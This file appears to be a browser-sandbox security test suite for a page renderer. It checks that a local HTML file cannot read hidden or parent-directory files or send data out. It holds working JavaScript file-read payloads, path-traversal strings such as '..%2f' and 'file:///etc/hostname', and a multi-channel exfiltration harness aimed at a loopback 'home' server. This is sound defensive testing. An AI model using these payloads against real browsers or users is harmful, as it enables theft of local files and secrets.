@@ -1,0 +1,272 @@
+"""What a stranger's page tries when it is opened from a file: read what lies around it, and send it home."""
+
+import os
+import threading
+from contextlib import contextmanager
+from functools import partial
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+
+import blocksight as bs
+import pytest
+from blocksight.render.network.loopback import Quiet, serve
+
+pytestmark = pytest.mark.browser
+PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
+    "0000000c49444154789c6338c1c001000306010116bfc6a20000000049454e44ae426082"
+)
+#: Functions of a file's address; each tells what it could read.
+ATTACKS = {
+    "error": "put('script', {src: url})",
+    "error-of-a-module": "put('script', {src: url, type: 'module'})",
+    "module": "import(url).catch(e => told(e))",
+    "json-module": "import(url, {with: {type: 'json'}}).then(m => told(JSON.stringify(m.default)), () => 0)",
+    "css-module": "import(url, {with: {type: 'css'}}).then(m => told(rules(m.default)), () => 0)",
+    "rules": "put('link', {rel: 'stylesheet', href: url}).onload = e => told(rules(e.target.sheet))",
+    "imported-rules": "put('style', {textContent: `@import '${url}'`}).onload = e =>"
+    " told(rules(e.target.sheet.cssRules[0].styleSheet))",
+    "fetch": "fetch(url).then(r => r.text()).then(told, () => 0)",
+    "xhr": "const x = new XMLHttpRequest(); x.open('GET', url); x.onload = () => told(x.responseText); x.send()",
+    "xml": "const x = new XMLHttpRequest(); x.open('GET', url); x.overrideMimeType('text/xml'); x.onload = () =>"
+    " told(x.responseXML.documentElement.outerHTML); x.send()",
+    "iframe": "put('iframe', {src: url}).onload = e => told(e.target.contentDocument.documentElement.textContent)",
+    "object": "put('object', {data: url}).onload = e => told(e.target.contentDocument.documentElement.textContent)",
+    "embed": "put('embed', {src: url}).onload = e => told(e.target.getSVGDocument().documentElement.textContent)",
+    "prefetch": "put('link', {rel: 'prefetch', href: url}).onload = () =>"
+    " fetch(url, {cache: 'only-if-cached', mode: 'same-origin'}).then(r => r.text()).then(told, () => 0)",
+    "preload": "put('link', {rel: 'preload', as: 'fetch', href: url, crossOrigin: ''}).onload = () =>"
+    " fetch(url).then(r => r.text()).then(told, () => 0)",
+    "worker": "new Worker(url).onerror = e => told(e.message)",
+    "worker-import": "worker(`try { importScripts('${url}') } catch (e) { postMessage(String(e)) }`)",
+    "worker-fetch": "worker(`fetch('${url}').then(r => r.text()).then(postMessage, () => 0)`)",
+    "subtitles": "const t = document.createElement('track'); t.src = url; t.default = true; t.kind = 'subtitles';"
+    "put('video', {}).append(t); t.track.mode = 'showing'; t.onload = () => told([...t.track.cues].map(c => c.text))",
+    "events": "new EventSource(url).onmessage = e => told(e.data)",
+    "pixels": "const i = new Image(); i.onload = () => { const d = document.createElement('canvas').getContext('2d');"
+    "d.drawImage(i, 0, 0); told('SECRET' + d.getImageData(0, 0, 1, 1).data) }; i.src = url",
+    # Slow to begin, or not read by any browser that is known; they must not begin to be.
+    "shared-worker": "new SharedWorker(url).onerror = e => told(e.message)",
+    "xslt": "const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString(`<xsl:stylesheet "
+    "version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><b><xsl:copy-of "
+    "select=\"document('${url}')\"/></b></xsl:template></xsl:stylesheet>`, 'text/xml'));"
+    "told(x.transformToFragment(new DOMParser().parseFromString('<x/>', 'text/xml'), document).textContent)",
+    "source-map": "put('script', {textContent: `1 //# sourceMappingURL=${url}`})",
+    "entity": "told(new DOMParser().parseFromString(`<!DOCTYPE x [<!ENTITY e SYSTEM '${url}'>]><x>&e;</x>`, 'text/xml')"
+    ".documentElement.textContent)",
+    "svg-use": "document.body.insertAdjacentHTML('beforeend', `<svg><use href='${url}#x'/></svg>`)",
+    "css-url": "put('p', {style: `background: url('${url}'); mask: url('${url}#x'); filter: url('${url}#x')`})",
+    "font": "new FontFace('x', `url('${url}')`).load().then(() => told('SECRET font'), () => 0)",
+    "worklet": "CSS.paintWorklet.addModule(url).catch(told)",
+    "popup": "const w = open(url); setTimeout(() => told(w.document.documentElement.textContent), 300)",
+    "speculation": "put('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', "
+    "urls: [url], eagerness: 'immediate'}]})}); setTimeout(() => fetch(url, {cache: 'force-cache'})"
+    ".then(r => r.text()).then(told, () => 0), 300)",
+}
+UNSURE = "shared-worker xslt source-map entity svg-use css-url font worklet popup".split()
+#: Files that a page may not read, whatever their kind: hidden ones, and some that are neither style nor script.
+SECRETS = {
+    ".env": "SECRETKEY = SECRETVALUE",
+    ".hidden.css": ".SECRET { color: red }",
+    ".hidden.js": "SECRETNAME",
+    ".hidden.json": '{"a": "SECRET"}',
+    ".hidden.svg": "<svg xmlns='http://www.w3.org/2000/svg'><text id='x'>SECRET</text></svg>",
+    ".hidden.vtt": "WEBVTT\n\n00:00.000 --> 00:09.000\nSECRET\n",
+    ".hidden.xml": "<x>SECRET</x>",
+    ".git/config.js": "SECRETNAME",
+    "notes.txt": "SECRETNAME",
+    "data.json": '{"a": "SECRET"}',
+    "private.html": "<p>SECRET",
+    "stream.events": "data: SECRET\n\n",
+}
+#: Ways out of the folder.
+OUT = (
+    "../above.js ../above.css ..%2fabove.js ..%2fabove.css %2e%2e/above.js %2e%2e%2fabove.css ..%5cabove.js "
+    "sub/..%2f..%2fabove.css ..%252fabove.js .%2e/above.css //etc/hostname /..%2f..%2f..%2f..%2fetc/hostname "
+    "file:///etc/hostname out.js out.css out.png outer/above.js"
+).split()
+PAGE = """<!doctype html><title>t</title><link rel=stylesheet href=style.css><body><p id=text>text</p>
+<img src=picture.png><script src=script.js></script><script>
+const send = text => { new Image().src = "HOME/image?" + encodeURIComponent(text) };
+const home = text => {
+  const told = text, f = document.createElement("iframe"), l = document.createElement("link");
+  send(text);
+  fetch("HOME/fetch?" + told, {mode: "no-cors"}).catch(() => 0);
+  navigator.sendBeacon("HOME/beacon?" + told);
+  new WebSocket("HOME/socket?".replace("http", "ws") + told);
+  l.rel = "stylesheet"; l.href = "HOME/style?" + told; document.head.append(l);
+  f.src = "HOME/frame?" + told; document.body.append(f);
+};
+const rules = sheet => [...sheet.cssRules].map(rule => rule.cssText).join();
+const put = (name, given) => {
+  const node = document.createElement(name), {style = "", ...rest} = given;
+  Object.assign(node, rest); node.style = style; document.body.append(node); return node };
+const say = text => { put("p", {textContent: text}); send(text) };
+const attack = (name, url, body) => {
+  const told = text => { if (String(text).includes("SECRET")) say(`${name} of ${url}: ${text}`) };
+  const worker = text => new Worker(URL.createObjectURL(new Blob([text]))).onmessage = e => told(e.data);
+  if (name.startsWith("error"))
+    addEventListener("error", e => { if (e.filename === url) told(e.message) });
+  try { body(url, told, worker) } catch (e) { told(e) }
+};
+home("PING");
+const base = location.href.replace(/[^/]*$/, "");
+for (const file of FILES) { const url = new URL(file, base).href; RUN }
+</script>"""
+
+
+class Home(Quiet):
+    """Notes what is sent home."""
+
+    def do_GET(self):
+        self.server.told.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Length", "0")
+        self.end_headers()
+
+    do_POST = do_GET
+
+
+@contextmanager
+def home():
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Home)
+    server.daemon_threads, server.told, server.request_queue_size = True, [], 128
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory):
+    """The folder of the page, with what it may have and what it may not."""
+    top = tmp_path_factory.mktemp("all")
+    folder = top / "site"
+    for name, text in SECRETS.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_text(text)
+    (folder / ".hidden.png").write_bytes(PNG)
+    (folder / "sub").mkdir()
+    (top / "above.css").write_text(".SECRET { color: red }")
+    (top / "above.js").write_text("SECRETNAME")
+    (top / "above.png").write_bytes(PNG)
+    if os.name == "posix":
+        (folder / "outer").symlink_to(top)
+        for name in ("css", "js", "png"):
+            (folder / f"out.{name}").symlink_to(top / f"above.{name}")
+    (folder / "style.css").write_text("#text { font-size: 30px }")
+    (folder / "script.js").write_text("document.body.insertAdjacentHTML('beforeend', '<p>scripted</p>')")
+    (folder / "picture.png").write_bytes(PNG)
+    return folder
+
+
+class Files(Quiet, SimpleHTTPRequestHandler):
+    """Answers with files, hidden or not."""
+
+    extensions_map = SimpleHTTPRequestHandler.extensions_map | {".events": "text/event-stream"}
+
+
+@contextmanager
+def attacking(site, files, attacks=ATTACKS):
+    """Write the page; yields its name, and the server that it tells."""
+    with home() as server:
+        calls = "".join(
+            f"attack('{name}', url, (url, told, worker) => {{ {body} }});" for name, body in attacks.items()
+        )
+        page = PAGE.replace("HOME", f"http://127.0.0.1:{server.server_port}")
+        (site / "page.html").write_text(page.replace("FILES", str(list(files))).replace("RUN", "".join(calls)))
+        yield "page.html", server
+
+
+def options(**given):
+    return bs.RenderOptions(allow_private=True, timeout=60.0, settle=3.0, settle_cap=30.0, scroll=0, **given)
+
+
+HIDDEN = [*SECRETS, ".hidden.png"]
+
+
+@pytest.fixture(scope="module")
+def over_http(site, browser):
+    """What the attacks get where nothing holds them back: from a server that has these files."""
+    with attacking(site, HIDDEN) as (name, server), serve(partial(Files, directory=str(site))) as address:
+        page = browser.open(f"{address}/{name}", options=options())
+        return "\n".join(page.leaf_texts), "\n".join(server.told)
+
+
+@pytest.mark.parametrize("name", [name for name in ATTACKS if name not in UNSURE])
+def test_the_attacks_are_real(over_http, name):
+    text, told = over_http
+    assert f"{name} of " in text
+    assert f"{name}%20of%20" in told
+
+
+@pytest.fixture(scope="module", params=[HIDDEN, OUT], ids=["hidden", "above"])
+def as_file(request, site, browser):
+    with attacking(site, request.param) as (name, server):
+        return browser.open(site / name, options=options()), server.told
+
+
+def test_a_file_sends_nothing(as_file):
+    assert as_file[1] == []
+
+
+def test_a_file_reads_nothing_hidden_and_nothing_above(as_file):
+    assert "SECRET" not in "".join(as_file[0].leaf_texts)
+
+
+def test_a_file_has_what_it_needs(as_file):
+    page, _ = as_file
+    assert page.leaf_texts[:2] == ("text", "scripted")
+    assert page.geometry.font_size[page.leaves[0]] == 30
+
+
+@pytest.fixture(scope="module", params=[HIDDEN, OUT], ids=["hidden", "above"])
+def as_trusted_file(request, site, browser):
+    with attacking(site, request.param) as (name, server):
+        return browser.open(site / name, options=options(trust_file=True)), server.told
+
+
+def test_a_trusted_file_has_the_network_as_well(as_trusted_file):
+    page, told = as_trusted_file
+    assert {way.split("?")[0] for way in told} >= {"/image", "/fetch", "/beacon", "/style", "/frame", "/socket"}
+    assert page.leaf_texts[:2] == ("text", "scripted")
+
+
+def test_a_trusted_file_reads_nothing_hidden_and_nothing_above(as_trusted_file):
+    page, told = as_trusted_file
+    assert "SECRET" not in "".join(page.leaf_texts)
+    assert all(way.endswith("?PING") for way in told)
+
+
+def test_a_trusted_file_offline_is_offline(site, browser):
+    with attacking(site, HIDDEN) as (name, server):
+        browser.open(site / name, options=options(trust_file=True, offline=True))
+        assert server.told == []
+
+
+def test_a_file_with_an_address_has_the_network_and_no_files(site, browser):
+    with attacking(site, [*HIDDEN, "style.css", "script.js"]) as (name, server):
+        page = browser.open(site / name, url="http://127.0.0.1:9/page.html", options=options())
+        assert page.leaf_texts[0] == "text"
+        assert page.geometry.font_size[page.leaves[0]] == 16
+        assert not any("scripted" in text or "SECRET" in text for text in page.leaf_texts)
+        assert server.told
+        assert all(way.endswith("?PING") for way in server.told)
+
+
+FRAME = """<!doctype html><p>frame</p><link rel=stylesheet href="LOCAL/style.css"><p id=text>framed</p>
+<img src="LOCAL/picture.png" onload="this.after('pictured')"><script src="LOCAL/script.js"></script>"""
+
+
+def test_a_frame_of_a_trusted_file_has_no_files(site, browser):
+    class Framed(Quiet):
+        def do_GET(self):
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(FRAME.replace("LOCAL", "http://blocksight.invalid").encode())
+
+    with serve(Framed) as address:
+        (site / "frame.html").write_text(f"<p>text</p><img src=picture.png><iframe src={address}/></iframe>")
+        page = browser.open(site / "frame.html", options=options(trust_file=True))
+    assert page.leaf_texts == ("text", "frame", "framed")
+    assert page.geometry.font_size[page.leaves].tolist() == [16, 16, 16]
